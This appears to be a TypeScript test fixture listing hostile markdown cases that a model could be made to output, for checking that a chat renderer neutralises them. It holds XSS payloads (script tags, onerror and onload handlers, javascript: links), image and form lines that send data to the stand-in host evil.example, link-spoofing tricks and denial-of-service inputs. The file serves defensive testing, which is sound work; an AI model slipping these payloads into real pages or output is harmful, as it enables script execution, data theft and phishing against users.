/** What a model could be made to say. `shows` is what the reader gets to see of it. */
export type HostileCase = { name: string; markdown: string; shows?: string | RegExp };

const EVIL = 'https://evil.example';
const RUN = 'window.hacked=1';

const html: HostileCase[] = [
  { name: 'a script', markdown: `<script>${RUN}</script>`, shows: '<script>' },
  { name: 'a script from elsewhere', markdown: `<script src="${EVIL}/x.js"></script>` },
  { name: 'a picture that fails', markdown: `<img src=x onerror="${RUN}">` },
  { name: 'a picture of a set', markdown: `<img srcset="${EVIL}/a.png 2x">` },
  { name: 'a frame', markdown: `<iframe src="${EVIL}"></iframe>` },
  {
    name: 'a frame with a document',
    markdown: `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  },
  { name: 'a style', markdown: '<style>*{display:none!important}</style>' },
  { name: 'a style that imports', markdown: `<style>@import "${EVIL}/x.css";</style>` },
  { name: 'a style attribute', markdown: '<b style="position:fixed;inset:0;background:red">x</b>' },
  { name: 'a style sheet', markdown: `<link rel="stylesheet" href="${EVIL}/x.css">` },
  { name: 'a form', markdown: `<form action="${EVIL}"><input name="p"><button>Go</button></form>` },
  { name: 'a base', markdown: `<base href="${EVIL}/">\n\n[here](./a)` },
  { name: 'a refresh', markdown: `<meta http-equiv="refresh" content="0;url=${EVIL}">` },
  { name: 'a policy', markdown: `<meta http-equiv="Content-Security-Policy" content="img-src *">` },
  { name: 'an SVG', markdown: `<svg onload="${RUN}"><script>${RUN}</script></svg>` },
  {
    name: 'an SVG that animates',
    markdown: `<svg><animate onbegin="${RUN}" attributeName="x"/></svg>`,
  },
  { name: 'an object', markdown: `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/y">` },
  { name: 'a video', markdown: `<video src="${EVIL}/x.mp4" autoplay onplay="${RUN}"></video>` },
  { name: 'details', markdown: `<details open ontoggle="${RUN}"><summary>x</summary></details>` },
  { name: 'a template', markdown: `<template><img src="${EVIL}/t.png"></template>` },
  { name: 'a comment', markdown: `<!-- ${RUN} --> after`, shows: 'after' },
  { name: 'a broken comment', markdown: `<!--><img src=x onerror="${RUN}">-->` },
  { name: 'CDATA', markdown: `<![CDATA[<img src=x onerror="${RUN}">]]>` },
  {
    name: 'math that hides HTML',
    markdown: `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  },
  { name: 'a plain-text tag', markdown: '<plaintext>\n\nthe rest', shows: 'the rest' },
  { name: 'a half tag', markdown: `<img src="${EVIL}/?q=` },
  {
    name: 'names of the page',
    markdown: '<a id="__next" name="body">x</a><form id="location"></form>',
  },
];

const links: HostileCase[] = [
  { name: 'javascript:', markdown: `[press](javascript:${RUN})`, shows: 'press' },
  { name: 'javascript: in disguise', markdown: `[press](JaVaScRiPt&colon;${RUN})` },
  { name: 'javascript: with a line end', markdown: `[press](<java&#10;script:${RUN}>)` },
  { name: 'data:', markdown: `[press](data:text/html,<script>${RUN}</script>)`, shows: 'press' },
  { name: 'vbscript:', markdown: '[press](vbscript:msgbox)' },
  { name: 'blob: and file:', markdown: '[a](blob:http://127.0.0.1/x) [b](file:///etc/passwd)' },
  {
    name: 'an address without a scheme',
    markdown: `[press](//evil.example/x) [p](\\\\evil.example)`,
  },
  {
    name: 'another address as its text',
    markdown: `[https://bank.example/login](${EVIL}/a)`,
    shows: '(evil.example)',
  },
  {
    name: 'a user name as host',
    markdown: '[pay](https://bank.example@evil.example/)',
    shows: '(evil.example)',
  },
  {
    name: 'bidi text',
    markdown: `[\u202eelpmaxe.knab//:sptth](${EVIL}/)`,
    shows: '(evil.example)',
  },
  {
    name: 'invisible characters',
    markdown: `[bank\u200b.example](${EVIL}/)`,
    shows: '(evil.example)',
  },
  {
    name: 'letters that look alike',
    markdown: '[bank.example](https://bаnk.example/)',
    shows: 'xn--',
  },
  { name: 'a bare address', markdown: `see ${EVIL}/?q=secret and www.evil.example`, shows: EVIL },
  { name: 'a bare script', markdown: `<javascript:${RUN}>` },
  { name: 'a reference', markdown: `[press][r]\n\n[r]: javascript:${RUN}` },
  { name: 'a footnote', markdown: `text[^1]\n\n[^1]: [x](javascript:${RUN}) <img src=${EVIL}/f>` },
  { name: 'an undecodable address', markdown: '[write](mailto:%E0%A4%A)', shows: 'write' },
  {
    name: 'a citation with a script',
    markdown: `[1](javascript:${RUN}) [<b>1</b>] [1, javascript]`,
  },
];

const pictures: HostileCase[] = [
  { name: 'a picture', markdown: `![secret](${EVIL}/?q=secret)`, shows: 'secret' },
  { name: 'a picture by reference', markdown: `![x][p]\n\n[p]: ${EVIL}/p.png` },
  { name: 'a picture in a link', markdown: `[![x](${EVIL}/a.png)](${EVIL}/b)` },
  { name: 'a picture as data', markdown: `![x](data:image/svg+xml,<svg onload=${RUN}>)` },
  { name: 'a picture of this server', markdown: '![x](/api/threads)' },
];

const code: HostileCase[] = [
  {
    name: 'a fence with a script',
    markdown: `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
    shows: RUN,
  },
  {
    name: 'a fence that is not closed',
    markdown: `\`\`\`js\n</code></pre><img src=x onerror=${RUN}>`,
  },
  { name: 'an odd language', markdown: `\`\`\`"><img/src=x/onerror=${RUN}>\nx\n\`\`\`` },
  {
    name: 'a diagram',
    markdown: `\`\`\`mermaid\ngraph TD; A-->B; click A "javascript:${RUN}"\n\`\`\``,
  },
  { name: 'inline code', markdown: `\`<img src=x onerror=${RUN}>\``, shows: '<img' },
  { name: 'a formula with a link', markdown: `$$\\href{javascript:${RUN}}{x}$$` },
  { name: 'a formula with a picture', markdown: `$$\\includegraphics{${EVIL}/x.png}$$` },
  { name: 'a formula with HTML', markdown: `$$\\htmlStyle{position:fixed}{x} \\htmlId{a}{x}$$` },
  { name: 'a formula with a macro bomb', markdown: '$$\\def\\a{\\a\\a}\\a$$' },
  { name: 'a formula as large as a house', markdown: '$$\\rule{99999em}{99999em}$$' },
  { name: 'a formula that is none', markdown: '$$\\frac{$$ and $\\unknown{$' },
];

const large: HostileCase[] = [
  { name: 'a line of a megabyte', markdown: `begin ${'x'.repeat(1_000_000)}`, shows: 'begin' },
  {
    name: 'a table of 10,000 cells',
    markdown: ['| a '.repeat(20), '| - '.repeat(20), ...Array(500).fill('| c '.repeat(20))]
      .map((row) => `${row}|`)
      .join('\n'),
  },
  { name: 'tables within tables', markdown: `${'<table><tr><td>'.repeat(500)}deep`, shows: 'deep' },
  { name: 'quotes within quotes', markdown: `${'> '.repeat(5_000)}deep`, shows: 'deep' },
  { name: 'lists within lists', markdown: `${'- '.repeat(2_000)}deep`, shows: 'deep' },
  { name: 'stars', markdown: `${'*'.repeat(4_000)}a${'_'.repeat(4_000)}` },
  { name: 'brackets', markdown: `${'['.repeat(4_000)}x${']'.repeat(4_000)}` },
  { name: 'backticks and dollars', markdown: `${'`'.repeat(3_001)} ${'$'.repeat(3_001)}` },
  { name: 'marks upon marks', markdown: `Z${'\u0301'.repeat(2_000)}` },
];

export const HOSTILE: Readonly<Record<string, readonly HostileCase[]>> = {
  ...{ HTML: html, links, pictures, 'code and formulas': code, 'too much of it': large },
};
